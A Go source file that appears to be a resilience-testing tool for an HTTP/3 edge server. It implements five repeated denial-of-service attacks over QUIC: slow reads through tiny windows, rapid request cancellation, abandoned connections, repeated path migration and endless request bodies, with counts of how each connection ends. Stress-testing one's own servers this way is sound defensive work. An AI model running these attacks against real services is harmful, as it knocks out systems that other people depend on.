package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
)

// hostile is what attacks share: they go on until the input ends, and count what they do and see.
type hostile struct {
	*options
	trust  *tls.Config
	server *net.UDPAddr
	counts map[string]int
}

var hostileAttacks = map[string]func(*hostile, context.Context) error{
	"half-windows":   (*hostile).halfWindows,
	"cancelled":      (*hostile).cancelled,
	"left-alone":     (*hostile).leftAlone,
	"new-networks":   (*hostile).newNetworks,
	"endless-bodies": (*hostile).endlessBodies,
}

// attack does one kind of harm over and over.
func attack(o *options, trust *tls.Config) error {
	once, known := hostileAttacks[o.attack]
	if !known {
		return fmt.Errorf("no attack %q", o.attack)
	}
	server, err := net.ResolveUDPAddr("udp", o.connect)
	if err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(context.Background(), o.timeout)
	defer cancel()
	go func() {
		_, _ = bufio.NewReader(os.Stdin).ReadString('\n')
		cancel()
	}()
	h := &hostile{o, trust, server, map[string]int{}}
	fmt.Println("attacking")
	for ctx.Err() == nil {
		if err := once(h, ctx); err != nil && ctx.Err() == nil {
			h.ended(err)
			time.Sleep(time.Millisecond)
		}
	}
	return json.NewEncoder(os.Stdout).Encode(h.counts)
}

// ended counts how a connection came to its end.
func (h *hostile) ended(err error) {
	var (
		application *quic.ApplicationError
		transport   *quic.TransportError
	)
	switch {
	case errors.As(err, &application):
		h.counts[fmt.Sprintf("closed application %#x", uint64(application.ErrorCode))]++
	case errors.As(err, &transport):
		h.counts[fmt.Sprintf("closed transport %#x", uint64(transport.ErrorCode))]++
	default:
		h.counts[err.Error()]++
	}
}

// dial connects from a socket of its own.
func (h *hostile) dial(ctx context.Context, config *quic.Config) (*quic.Conn, *quic.Transport, error) {
	socket, err := net.ListenUDP("udp", nil)
	if err != nil {
		return nil, nil, err
	}
	trust := h.trust.Clone()
	trust.NextProtos = []string{http3.NextProtoH3}
	transport := &quic.Transport{Conn: socket}
	conn, err := transport.Dial(ctx, h.server, trust, config)
	if err != nil {
		transport.Close()
		socket.Close()
		return nil, nil, err
	}
	h.counts["connections"]++
	return conn, transport, nil
}

func leave(conn *quic.Conn, transport *quic.Transport) {
	_ = conn.CloseWithError(0x100, "") // H3_NO_ERROR
	socket := transport.Conn
	transport.Close()
	socket.Close()
}

// The HEADERS frame of GET https://edge.test/long.mp4, in literals and entries of the static table.
func get(method byte, path string) []byte {
	section := []byte{0, 0, 0xc0 | method, 0xc0 | 23, 0x50, 9}
	section = append(section, "edge.test"...)
	section = append(section, 0x51, byte(len(path)))
	section = append(section, path...)
	return append([]byte{1, byte(len(section))}, section...)
}

// Indices in QPACK's static table.
const methodGet, methodPost = 17, 20

// halfWindows asks for as much as it may and reads one byte of each response, with the smallest windows there are.
func (h *hostile) halfWindows(ctx context.Context) error {
	conn, transport, err := h.dial(ctx, &quic.Config{
		InitialStreamReceiveWindow: 512, MaxStreamReceiveWindow: 512,
		InitialConnectionReceiveWindow: 1 << 20, MaxConnectionReceiveWindow: 1 << 20,
	})
	if err != nil {
		return err
	}
	defer leave(conn, transport)
	for ctx.Err() == nil {
		stream, err := conn.OpenStream()
		if err != nil {
			if !errors.As(err, new(*quic.StreamLimitReachedError)) {
				return context.Cause(conn.Context())
			}
			select {
			case <-ctx.Done():
			case <-conn.Context().Done():
				return context.Cause(conn.Context())
			}
			return nil
		}
		if _, err := stream.Write(get(methodGet, "/long.mp4")); err != nil {
			return context.Cause(conn.Context())
		}
		stream.Close()
		_, _ = stream.Read(make([]byte, 1))
		h.counts["requests"]++
	}
	return nil
}

// cancelled resets and stops each request as soon as it is written.
func (h *hostile) cancelled(ctx context.Context) error {
	conn, transport, err := h.dial(ctx, nil)
	if err != nil {
		return err
	}
	defer leave(conn, transport)
	for {
		stream, err := conn.OpenStreamSync(ctx)
		if err != nil {
			return errors.Join(err, context.Cause(conn.Context()))
		}
		if _, err := stream.Write(get(methodGet, "/long.mp4")); err != nil {
			return context.Cause(conn.Context())
		}
		stream.CancelRead(0x10c) // H3_REQUEST_CANCELLED
		stream.CancelWrite(0x10c)
		h.counts["streams"]++
	}
}

// leftAlone makes connections and leaves them without a word.
func (h *hostile) leftAlone(ctx context.Context) error {
	socket, err := net.ListenUDP("udp", nil)
	if err != nil {
		return err
	}
	defer socket.Close()
	trust := h.trust.Clone()
	trust.NextProtos = []string{http3.NextProtoH3}
	transport := &quic.Transport{Conn: mute{socket}}
	if _, err := transport.Dial(ctx, h.server, trust, nil); err != nil {
		return err
	}
	h.counts["connections"]++
	return nil
}

// mute hides the descriptor, and with it whatever quic-go would set on it.
type mute struct{ net.PacketConn }

// newNetworks moves a connection to another socket again and again, each path proven.
func (h *hostile) newNetworks(ctx context.Context) error {
	conn, transport, err := h.dial(ctx, nil)
	if err != nil {
		return err
	}
	defer leave(conn, transport)
	for ctx.Err() == nil {
		socket, err := net.ListenUDP("udp", nil)
		if err != nil {
			return err
		}
		next := &quic.Transport{Conn: socket}
		defer func() { next.Close(); socket.Close() }()
		path, err := conn.AddPath(next)
		if err != nil {
			return err
		}
		probing, cancel := context.WithTimeout(ctx, time.Second)
		err = path.Probe(probing)
		cancel()
		if err != nil {
			return fmt.Errorf("probe: %w", err)
		}
		h.counts["probed"]++
		if err := path.Switch(); err != nil {
			return err
		}
		if h.counts["probed"]%100 == 0 {
			return nil // descriptors are given back
		}
	}
	return nil
}

// endlessBodies sends a body that nobody wants on every stream, until it is told to stop.
func (h *hostile) endlessBodies(ctx context.Context) error {
	conn, transport, err := h.dial(ctx, nil)
	if err != nil {
		return err
	}
	defer leave(conn, transport)
	stream, err := conn.OpenStreamSync(ctx)
	if err != nil {
		return err
	}
	if _, err := stream.Write(get(methodPost, "/small.txt")); err != nil {
		return context.Cause(conn.Context())
	}
	data := append([]byte{0, 0x80, 0, 0x40, 0}, make([]byte, 0x4000)...)
	for ctx.Err() == nil {
		_ = stream.SetWriteDeadline(time.Now().Add(time.Second))
		count, err := stream.Write(data)
		h.counts["bytes"] += count
		if err != nil {
			var stopped *quic.StreamError
			if errors.As(err, &stopped) {
				h.counts[fmt.Sprintf("stopped %#x", uint64(stopped.ErrorCode))]++
				return nil
			}
			return errors.Join(err, context.Cause(conn.Context()))
		}
	}
	return nil
}
